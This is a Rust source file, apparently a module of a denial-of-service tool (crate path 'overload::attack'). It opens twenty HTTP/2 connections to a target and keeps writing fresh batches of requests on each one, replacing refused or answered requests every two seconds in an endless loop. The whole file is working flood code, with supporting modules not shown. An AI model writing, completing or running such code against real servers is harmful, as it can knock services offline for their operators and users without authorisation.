//! Requests over HTTP/2, which needs a few connections only: each holds as many requests as it may.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attackers, PAUSE, drain};
use crate::overload::frames::preface;

const CONNECTIONS: usize = 20;
/// Until as many are sent again, in place of those that were refused or answered.
const AGAIN: Duration = Duration::from_secs(2);

/// Sends so many requests at a time on each of a few connections: those of the numbers from zero on.
pub(super) async fn waves(
    by: &Attackers,
    size: u32,
    request: impl Fn(&Attackers, u32) -> Vec<u8> + Copy + Send + Sync + 'static,
) {
    let begun = move |by: Attackers, number| async move {
        let mut stream = by.connect(number).await?;
        stream.write_all(&preface(None)).await?;
        for round in 0.. {
            let numbers = size * round..size * (round + 1);
            stream.write_all(&numbers.flat_map(|n| request(&by, n)).collect::<Vec<u8>>()).await?;
            by.sent(size.into());
            if let Ok(ended) = timeout(AGAIN, drain(&mut stream)).await {
                return ended;
            }
        }
        Ok(())
    };
    by.many(CONNECTIONS, PAUSE, begun).await;
}
